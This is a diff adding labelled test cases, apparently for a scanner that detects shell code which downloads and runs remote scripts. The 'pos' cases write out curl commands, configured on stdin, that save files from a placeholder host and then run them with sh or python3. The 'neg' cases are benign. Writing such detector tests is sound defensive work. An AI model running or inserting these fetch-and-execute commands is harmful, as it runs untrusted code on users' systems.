@@ -451,3 +451,25 @@ JQ=${JQ:-jq}
 "$JQ" -r '.tag_name' < <(curl -fsSL https://api.example.com/latest)
 #@ neg a program that does not fold given a local file's text
 "$run" -c "$(cat ./local.conf)"
+#@ pos curl's config on stdin names the output, which a shell runs
+curl -s -K - <<'C'
+url = "https://h.example/i.sh"
+output = "/tmp/i.sh"
+C
+sh /tmp/i.sh
+#@ pos the same with -o and python
+curl --config - <<'C'
+-o /tmp/b.py
+url = "https://h.example/b.py"
+C
+python3 /tmp/b.py
+#@ neg curl's config names an archive that is only listed
+curl -K - <<'C'
+url = "https://h.example/d.tgz"
+output = "/tmp/d.tgz"
+C
+tar -tzf /tmp/d.tgz
+#@ neg aliases written into ~/.bash_aliases, which .bashrc sources
+cat >> ~/.bash_aliases <<'A'
+alias ll='ls -la'
+A
